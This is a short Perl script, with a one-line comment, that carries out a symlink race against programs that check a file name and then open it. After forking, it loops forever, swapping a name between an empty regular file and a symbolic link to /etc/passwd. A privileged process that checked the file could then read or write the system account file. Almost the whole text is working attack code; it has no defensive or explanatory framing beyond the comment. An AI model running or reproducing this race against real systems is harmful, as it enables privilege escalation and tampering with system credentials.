# A name that is a file now and a link then: whoever looks first and opens afterwards is caught.
if (fork) { sleep 60 }
while (1) {
  open(my $file, '>', 'file') and close $file;
  rename 'file', 'link';
  symlink '/etc/passwd', 'file';
  rename 'file', 'link';
}
